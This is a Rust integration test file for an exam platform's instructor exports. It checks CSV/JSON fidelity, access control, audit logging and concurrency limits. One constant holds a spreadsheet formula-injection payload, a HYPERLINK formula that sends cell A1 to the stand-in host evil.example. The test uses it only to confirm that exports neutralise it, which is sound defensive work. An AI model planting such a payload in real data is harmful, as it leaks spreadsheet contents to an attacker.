//! Exports of one exam for its instructors: every file parses and holds
//! what the database and the API hold, row for row; a cell that would start
//! a spreadsheet formula comes out as text; everyone but the course's
//! instructors is refused as for an unknown exam, with nothing audited;
//! each export is audited once. The grades and gradebooks are in
//! [`grades`], the signals and similar pairs in [`evidence`].

mod evidence;
mod grades;

use std::collections::{BTreeMap, BTreeSet};

use examhall::domain::{DisplayName, Email, Role};
use examhall::service::people::{self, NewPerson, Placement};
use examhall::store::courses::GrantTarget;
use serde_json::{Value, json};

use crate::exam_client::ExamClient;
use crate::grading::submitted;
use crate::helpers::{TestApp, spawn_app};
use crate::people::{Caller, PASSWORD, World, password_hash, world};

/// Every export's file.
pub const FILES: [&str; 12] = [
    "attempts.csv",
    "attempts.json",
    "events.csv",
    "events.json",
    "signals.csv",
    "signals.json",
    "similarity.csv",
    "similarity.json",
    "grades.csv",
    "grades.json",
    "moodle.csv",
    "canvas.csv",
];

/// A name a spreadsheet would run as a formula.
const FORMULA_NAME: &str = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Ada\")";

/// A CSV file: its header and its rows.
pub struct Csv {
    pub header: Vec<String>,
    pub rows: Vec<Vec<String>>,
}

impl Csv {
    pub fn parse(text: &str) -> Self {
        let mut reader = csv::ReaderBuilder::new().has_headers(true).from_reader(text.as_bytes());
        let header = reader.headers().unwrap().iter().map(str::to_owned).collect();
        let rows = reader.records().map(|r| r.unwrap().iter().map(str::to_owned).collect()).collect();
        Self { header, rows }
    }

    pub fn at(&self, name: &str) -> usize {
        self.header.iter().position(|h| h == name).unwrap_or_else(|| panic!("no column {name}: {:?}", self.header))
    }

    /// Each row's cell of column `name`.
    pub fn column(&self, name: &str) -> Vec<&str> {
        let at = self.at(name);
        self.rows.iter().map(|row| row[at].as_str()).collect()
    }

    /// The rows whose column `name` is `value`.
    pub fn rows_where(&self, name: &str, value: &str) -> Vec<&Vec<String>> {
        let at = self.at(name);
        self.rows.iter().filter(|row| row[at] == value).collect()
    }
}

/// The export `file` as the world's instructor downloads it: checked for its
/// status, media type and file name; returns the body's text.
pub async fn download(app: &TestApp, w: &World, file: &str) -> String {
    let response = app.as_(&w.instructor).export(w.course, w.open_exam, file).await;
    assert_eq!(response.status(), 200, "{file}");
    let media = if file.split_once('.').is_some_and(|(_, extension)| extension == "csv") {
        "text/csv; charset=utf-8"
    } else {
        "application/json"
    };
    assert_eq!(response.headers()["content-type"], media, "{file}");
    let disposition = format!("attachment; filename=\"Midterm-{file}\"");
    assert_eq!(response.headers()["content-disposition"].to_str().unwrap(), disposition);
    response.text().await.unwrap()
}

pub async fn csv_of(app: &TestApp, w: &World, file: &str) -> Csv {
    Csv::parse(&download(app, w, file).await)
}

pub async fn json_of(app: &TestApp, w: &World, file: &str) -> Vec<Value> {
    let text = download(app, w, file).await;
    serde_json::from_str::<Vec<Value>>(&text).unwrap_or_else(|e| panic!("{file}: {e}: {text}"))
}

/// The `exam.export` entries of physics's audit log: target and details.
async fn exports_audited(app: &TestApp, w: &World) -> Vec<(String, Value)> {
    let db = app.state.registry().org(w.physics).await.unwrap();
    let rows: Vec<(String, String)> = db
        .read(|conn| {
            let mut statement =
                conn.prepare("SELECT target, details FROM audit_log WHERE action = 'exam.export' ORDER BY seq")?;
            let rows = statement.query_map([], |r| Ok((r.get(0)?, r.get(1)?)))?;
            Ok(rows.collect::<Result<_, _>>()?)
        })
        .await
        .unwrap();
    rows.into_iter().map(|(target, details)| (target, serde_json::from_str(&details).unwrap())).collect()
}

/// Every item of the open exam's logs in the database: (attempt, seq) → the item's text.
async fn logged(app: &TestApp, w: &World) -> BTreeMap<(String, i64), String> {
    let db = app.state.registry().org(w.physics).await.unwrap();
    let exam = w.open_exam;
    db.read(move |conn| {
        let mut statement = conn.prepare(
            "SELECT l.session_id, l.seq, l.payload FROM session_log l
             JOIN exam_sessions s ON s.id = l.session_id WHERE s.exam_id = ?1",
        )?;
        let rows = statement.query_map([exam.to_string()], |r| Ok(((r.get(0)?, r.get(1)?), r.get(2)?)))?;
        Ok(rows.collect::<Result<_, _>>()?)
    })
    .await
    .unwrap()
}

/// A student of section A named `name`, signed in.
pub async fn student_named(app: &TestApp, w: &World, email: &str, name: &str) -> Caller {
    let db = app.state.registry().org(w.physics).await.unwrap();
    let person = NewPerson {
        email: Email::parse(email).unwrap(),
        name: DisplayName::parse(name).unwrap(),
        student_number: Some("S-0042".to_owned()),
        password_hash: Some(password_hash()),
        role: Some((Role::Student, Placement::At(GrantTarget::Section(w.section)))),
        invitation: None,
    };
    people::create(&db, person, None, time::OffsetDateTime::UNIX_EPOCH).await.unwrap();
    app.sign_in(Some("physics"), email, PASSWORD).await
}

#[tokio::test]
async fn every_export_parses_and_holds_the_database_row_for_row() {
    let app = spawn_app().await;
    let w = world(&app).await;
    submitted(&app, &w).await;
    // A second student, still writing, whose name would start a formula.
    let ada = student_named(&app, &w, "ada@physics.example", FORMULA_NAME).await;
    let mut running = ExamClient::start(&app, &ada, &w.open_exam.to_string()).await;
    let question = running.question(0);
    running.type_text(&question, "def add(a, b):");
    running.event_on(&question, "focus_lost", &json!({}));
    running.flush(&app).await;

    // Attempts: the API's list of the exam's attempts, with the same receipts.
    let listed: Value = app.as_(&w.instructor).exam_attempts(w.course, w.open_exam).await.json().await.unwrap();
    let started: BTreeMap<String, Value> = listed
        .as_array()
        .unwrap()
        .iter()
        .filter(|s| !s["attempt"].is_null())
        .map(|s| (s["attempt"]["id"].as_str().unwrap().to_owned(), s.clone()))
        .collect();
    assert_eq!(started.len(), 2);
    let attempts = csv_of(&app, &w, "attempts.csv").await;
    let ids: BTreeSet<&str> = attempts.column("attempt_id").into_iter().collect();
    assert_eq!(ids, started.keys().map(String::as_str).collect(), "one row per attempt");
    for row in &attempts.rows {
        let api = &started[&row[attempts.at("attempt_id")]];
        assert_eq!(row[attempts.at("student_email")], api["email"].as_str().unwrap());
        assert_eq!(row[attempts.at("started_at")], api["attempt"]["started_at"].as_str().unwrap());
        assert_eq!(row[attempts.at("deadline_at")], api["attempt"]["deadline_at"].as_str().unwrap());
        assert_eq!(row[attempts.at("receipt_sha256")], api["receipt_sha256"].as_str().unwrap_or_default());
        assert_eq!(row[attempts.at("section_name")], "A");
        let receipt = &api["receipt"];
        if !receipt.is_null() {
            assert_eq!(row[attempts.at("submission_id")], receipt["submission_id"].as_str().unwrap());
            assert_eq!(row[attempts.at("q1_sha256")], receipt["answers"][0]["sha256"].as_str().unwrap());
            assert_eq!(row[attempts.at("submit_reason")], "student");
        }
    }
    let as_json = json_of(&app, &w, "attempts.json").await;
    assert_eq!(as_json.len(), attempts.rows.len());
    for (object, row) in as_json.iter().zip(&attempts.rows) {
        let keys: BTreeSet<&str> = object.as_object().unwrap().keys().map(String::as_str).collect();
        assert_eq!(keys, attempts.header.iter().map(String::as_str).collect(), "the JSON's keys are the CSV's columns");
        assert_eq!(object["attempt_id"], row[attempts.at("attempt_id")].as_str());
        assert!(object["extra_minutes"].is_u64() && object["candidate"].is_boolean(), "typed: {object}");
    }

    // Events: every item of every log, once, with its exact text.
    let stored = logged(&app, &w).await;
    let events = csv_of(&app, &w, "events.csv").await;
    assert_eq!(events.rows.len(), stored.len(), "one row per item of the session log");
    let (attempt, seq, details) = (events.at("attempt_id"), events.at("seq"), events.at("details"));
    let exported: BTreeMap<(String, i64), String> = events
        .rows
        .iter()
        .map(|row| ((row[attempt].clone(), row[seq].parse().unwrap()), row[details].clone()))
        .collect();
    assert_eq!(exported, stored, "the same items, each with the text the browser sent");
    let kinds = events.column("kind");
    assert!(kinds.contains(&"focus_lost") && kinds.contains(&"edit"), "{kinds:?}");
    let as_json = json_of(&app, &w, "events.json").await;
    assert_eq!(as_json.len(), stored.len());
    for object in &as_json {
        let key = (object["attempt_id"].as_str().unwrap().to_owned(), object["seq"].as_i64().unwrap());
        let text: Value = serde_json::from_str(&stored[&key]).unwrap();
        assert_eq!(object["details"], text, "details are the item itself, as JSON");
        assert_eq!(object["chain_sha256"].as_str().map(str::len), Some(64));
    }
    app.stop().await;
}

#[tokio::test]
async fn a_cell_that_would_start_a_formula_is_text_in_csv_and_as_it_is_in_json() {
    let app = spawn_app().await;
    let w = world(&app).await;
    let ada = student_named(&app, &w, "ada@physics.example", FORMULA_NAME).await;
    let mut client = ExamClient::start(&app, &ada, &w.open_exam.to_string()).await;
    let question = client.question(0);
    client.type_text(&question, "-1");
    client.flush(&app).await;

    let attempts = csv_of(&app, &w, "attempts.csv").await;
    assert_eq!(attempts.column("student_name"), [format!("'{FORMULA_NAME}").as_str()]);
    for file in ["attempts.csv", "events.csv", "signals.csv", "grades.csv", "moodle.csv", "canvas.csv"] {
        let text = download(&app, &w, file).await;
        let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_bytes());
        for record in reader.records() {
            for cell in &record.unwrap() {
                assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{file}: {cell:?}");
            }
        }
    }
    let as_json = json_of(&app, &w, "attempts.json").await;
    assert_eq!(as_json[0]["student_name"], FORMULA_NAME, "JSON is data: the name as stored");
    app.stop().await;
}

#[tokio::test]
async fn only_the_courses_instructors_get_an_export_and_a_refusal_audits_nothing() {
    let app = spawn_app().await;
    let w = world(&app).await;
    submitted(&app, &w).await;
    let outsiders = [
        ("reviewer of the course", &w.reviewer),
        ("proctor of the section", &w.proctor),
        ("student of the exam", &w.student),
        ("instructor of another course", &w.other_instructor),
        ("org admin", &w.admin),
        ("another organization's admin", &w.other_admin),
    ];
    for file in FILES {
        for (who, caller) in outsiders {
            let response = app.as_(caller).export(w.course, w.open_exam, file).await;
            assert_eq!(response.status(), 404, "{file} as {who}");
            assert_eq!(response.headers()["content-type"], "application/problem+json");
        }
        let response = app.anonymous().export(w.course, w.open_exam, file).await;
        assert_eq!(response.status(), 401, "{file} anonymously");
        assert_eq!(response.headers()["content-type"], "application/problem+json");
    }
    for unknown in ["moodle.json", "canvas.json", "events.xml", "audit.csv", "events"] {
        let response = app.as_(&w.instructor).export(w.course, w.open_exam, unknown).await;
        assert_eq!(response.status(), 404, "{unknown}");
        assert_eq!(response.headers()["content-type"], "application/problem+json", "{unknown}");
    }
    let unknown_exam = "00000000-0000-7000-8000-000000000000";
    let response = app.as_(&w.instructor).export(w.course, unknown_exam, "events.csv").await;
    assert_eq!(response.status(), 404);
    assert!(exports_audited(&app, &w).await.is_empty(), "a refused export is not one");
    app.stop().await;
}

#[tokio::test]
async fn each_export_is_audited_once_with_its_kind_and_format() {
    let app = spawn_app().await;
    let w = world(&app).await;
    submitted(&app, &w).await;
    for (done, file) in FILES.iter().enumerate() {
        download(&app, &w, file).await;
        let audited = exports_audited(&app, &w).await;
        assert_eq!(audited.len(), done + 1, "one entry per export: {file}");
        let (target, details) = audited.last().unwrap();
        assert_eq!(target, &w.open_exam.to_string());
        let (kind, format) = file.split_once('.').unwrap();
        assert_eq!(details, &json!({ "kind": kind, "format": format }));
    }
    app.stop().await;
}

#[tokio::test]
async fn a_head_request_gets_the_headers_and_exports_and_audits_nothing() {
    let app = spawn_app().await;
    let w = world(&app).await;
    submitted(&app, &w).await;
    let path = format!("/api/v1/courses/{}/exams/{}/exports/events.csv", w.course, w.open_exam);
    let head = app.as_(&w.instructor).raw(reqwest::Method::HEAD, &path, None).await;
    assert_eq!(head.status(), 200);
    assert_eq!(head.headers()["content-type"], "text/csv; charset=utf-8");
    assert!(head.headers()["content-disposition"].to_str().unwrap().starts_with("attachment; filename="));
    assert!(exports_audited(&app, &w).await.is_empty(), "a HEAD is not an export");
    let refused = app.as_(&w.reviewer).raw(reqwest::Method::HEAD, &path, None).await;
    assert_eq!(refused.status(), 404);
    app.stop().await;
}

#[tokio::test]
async fn an_export_beyond_those_running_at_once_is_refused_as_busy_and_not_audited() {
    let app = spawn_app().await;
    let w = world(&app).await;
    // The organization's turn taken, as by a download in progress; another
    // organization's export still starts.
    let running = app.state.exports().take(w.physics).unwrap();
    assert!(app.state.exports().take(w.chemistry).is_some(), "one organization's download holds only its own turn");
    let response = app.as_(&w.instructor).export(w.course, w.open_exam, "events.csv").await;
    assert_eq!(response.status(), 503);
    assert_eq!(response.headers()["content-type"], "application/problem+json");
    assert_eq!(response.headers()["retry-after"], "10");
    assert!(exports_audited(&app, &w).await.is_empty());
    drop(running);
    download(&app, &w, "events.csv").await;
    assert_eq!(exports_audited(&app, &w).await.len(), 1, "the turn is free again");
    app.stop().await;
}
